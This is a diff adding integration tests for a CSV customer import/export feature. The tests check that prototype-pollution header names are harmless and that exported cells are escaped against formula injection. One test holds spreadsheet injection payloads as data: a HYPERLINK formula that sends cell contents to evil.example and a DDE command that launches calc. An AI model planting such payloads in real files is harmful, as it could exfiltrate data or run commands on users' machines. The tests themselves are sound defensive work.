@@ -1,7 +1,8 @@
 import { randomUUID } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
 import iconv from 'iconv-lite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { callEvent, errorCode, type Harness, ok, popupOf, produceCall, startHarness } from './support';
+import { callEvent, errorCode, gql, type Harness, ok, popupOf, produceCall, startHarness } from './support';
 
 const IMPORT = `mutation ($input: CustomerImportInput!) {
   importCustomersCsv(input: $input) { dryRun created updated rejected unmappedColumns rowsTruncated rows { line action externalId name problems } }
@@ -27,6 +28,8 @@ const lines = [
   'C005,高橋 次郎,タカハシ ジロウ,,,12345,,,,,,シルバー,,',
   'C006,田中 三郎,タナカ サブロウ,,,,,,,,,プラチナ,,',
 ];
+/** One CSV line, every cell quoted (quotes doubled), as a spreadsheet would save it. */
+const stringifyRow = (cells: string[]) => cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(',');
 const shiftJis = (rows: string[]) => iconv.encode([header, ...rows].join('\r\n'), 'cp932').toString('base64');
 
 // Generous: these suites share a 2-core machine with every other suite, and nothing here is timed.
@@ -155,6 +158,126 @@ describe('CSV import and export (real Postgres and Kafka)', { timeout: 180_000 }
     const operator = await h.sign({ tenantId: tenantA });
     expect(await errorCode(h, operator, IMPORT, input(shiftJis(lines), 'SHIFT_JIS'))).toBe('FORBIDDEN');
     expect(await errorCode(h, operator, '{ exportCustomersCsv }')).toBe('FORBIDDEN');
+  });
+
+  it('imports headers named constructor, __proto__, toString, hasOwnProperty as ordinary unknown columns', async () => {
+    const admin2 = await h.sign({ tenantId: randomUUID(), roles: ['tenant-admin'] });
+    const file = [
+      '顧客ID,氏名,constructor,__proto__,toString,hasOwnProperty',
+      'P1,山田 太郎,a,b,c,d',
+      'P2,佐藤 花子,,,,',
+    ].join('\r\n');
+    const content = Buffer.from(file, 'utf8').toString('base64');
+    const dry = await importFile(admin2, content, true, 'UTF8');
+    expect(dry).toMatchObject({ created: 2, rejected: 0 });
+    expect(dry.unmappedColumns).toEqual(['constructor', '__proto__', 'toString', 'hasOwnProperty']);
+    // The same names in an explicit mapping: `__proto__` → 氏名 works like any header.
+    const mapped = await ok<{ importCustomersCsv: Report }>(h, admin2, IMPORT, {
+      input: {
+        contentBase64: Buffer.from('__proto__,constructor\r\n鈴木 一郎,x', 'utf8').toString('base64'),
+        encoding: 'UTF8',
+        dryRun: false,
+        mapping: [{ column: '__proto__', field: 'name' }],
+      },
+    });
+    expect(mapped.importCustomersCsv).toMatchObject({ created: 1, rejected: 0, unmappedColumns: ['constructor'] });
+    const names = await ok<{ customers: { items: { name: string }[] } }>(h, admin2, '{ customers { items { name } } }');
+    expect(names.customers.items.map((c) => c.name)).toEqual(['鈴木 一郎']);
+  });
+
+  it('exports cells starting with = + - @ tab as text (quote prefix, quoted), and reads them back unchanged', async () => {
+    const adminC = await h.sign({ tenantId: randomUUID(), roles: ['tenant-admin'] });
+    const hostile = {
+      name: '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+      company: "+cmd|' /C calc'!A0",
+      department: '-2+3',
+      notes: '@SUM(1+1)',
+      tags: '\t=1+1',
+    };
+    const file = [
+      '顧客ID,氏名,会社名,部署,メモ,タグ,電話番号',
+      stringifyRow([
+        'X1',
+        hostile.name,
+        hostile.company,
+        hostile.department,
+        hostile.notes,
+        hostile.tags,
+        '+33142685300',
+      ]),
+      stringifyRow(['X2', "'=既に引用符つき", '', '', '', '', '0312345678']),
+    ].join('\r\n');
+    const created = await importFile(adminC, Buffer.from(file, 'utf8').toString('base64'), false, 'UTF8');
+    expect(created).toMatchObject({ created: 2, rejected: 0 });
+
+    for (const encoding of ['UTF8', 'SHIFT_JIS'] as const) {
+      const bytes = Buffer.from(
+        (await ok<{ exportCustomersCsv: string }>(h, adminC, `{ exportCustomersCsv(encoding: ${encoding}) }`))
+          .exportCustomersCsv,
+        'base64',
+      );
+      const text = encoding === 'UTF8' ? bytes.toString('utf8').replace(/^\uFEFF/, '') : iconv.decode(bytes, 'cp932');
+      const cells = (parse(text) as string[][]).flat();
+      // No cell a spreadsheet would run as a formula.
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
+      expect(text).toContain(`"'+cmd|' /C calc'!A0"`);
+      expect(text).toContain(`"'-2+3"`);
+      expect(text).toContain(`"'@SUM(1+1)"`);
+      // The international number's display starts with +: escaped like any cell; the Japanese one is not.
+      expect(text).toContain(`"'+33 1 42 68 53 00"`);
+      expect(text).toContain(',03-1234-5678,');
+      // A cell the user already wrote as text (`'=…`, Excel's marker) was stored without the marker.
+      expect(text).toContain(`"'=既に引用符つき"`);
+
+      // Our import removes the one quote again: re-importing the export changes nothing.
+      const again = await importFile(adminC, bytes.toString('base64'), false, encoding);
+      expect(again).toMatchObject({ created: 0, updated: 2, rejected: 0 });
+      const back = await ok<{
+        customers: {
+          items: { name: string; company: string; department: string; notes: string; phones: { e164: string }[] }[];
+        };
+      }>(h, adminC, '{ customers { items { name company department notes phones { e164 } } } }');
+      expect(back.customers.items.find((c) => c.phones[0]?.e164 === '+33142685300')).toEqual({
+        name: hostile.name,
+        company: hostile.company,
+        department: hostile.department,
+        notes: hostile.notes,
+        phones: [{ e164: '+33142685300' }],
+      });
+      expect(back.customers.items.map((c) => c.name)).toContain('=既に引用符つき');
+    }
+  });
+
+  it('refuses a UTF-8 file declared Shift_JIS with CSV_ENCODING before counting any row', async () => {
+    const adminD = await h.sign({ tenantId: randomUUID(), roles: ['tenant-admin'] });
+    const utf8File = Buffer.from([header, ...lines].join('\r\n'), 'utf8').toString('base64');
+    const dry = await gql(h, adminD, IMPORT, {
+      input: { contentBase64: utf8File, encoding: 'SHIFT_JIS', dryRun: true },
+    });
+    expect(dry.errors?.[0]?.extensions?.code).toBe('CSV_ENCODING');
+    expect(dry.errors?.[0]?.message).toMatch(/UTF-8/);
+    expect(dry.data).toBeNull();
+    // ASCII rows first, the Japanese later: still refused, and the real run writes nothing.
+    const late = Buffer.from(
+      ['external_id,name', ...Array.from({ length: 3_000 }, (_, i) => `A${i},Name ${i}`), 'J1,山田 太郎'].join('\r\n'),
+      'utf8',
+    ).toString('base64');
+    expect(
+      await errorCode(h, adminD, IMPORT, { input: { contentBase64: late, encoding: 'SHIFT_JIS', dryRun: false } }),
+    ).toBe('CSV_ENCODING');
+    const jobs = await ok<{ importJobs: { status: string; errorCode: string; created: number }[] }>(
+      h,
+      adminD,
+      '{ importJobs { status errorCode created } }',
+    );
+    expect(jobs.importJobs.map((j) => [j.status, j.errorCode, j.created])).toEqual([
+      ['FAILED', 'CSV_ENCODING', 0],
+      ['FAILED', 'CSV_ENCODING', 0],
+    ]);
+    expect(await total(adminD)).toBe(0);
+    // The same file declared UTF-8 imports (this tenant has no 会員ランク field: C006 is fine here).
+    expect(await importFile(adminD, utf8File, true, 'UTF8')).toMatchObject({ created: 3, rejected: 3 });
   });
 
   it('keeps tenants apart: the same external ids in tenant B create B records and never touch A', async () => {
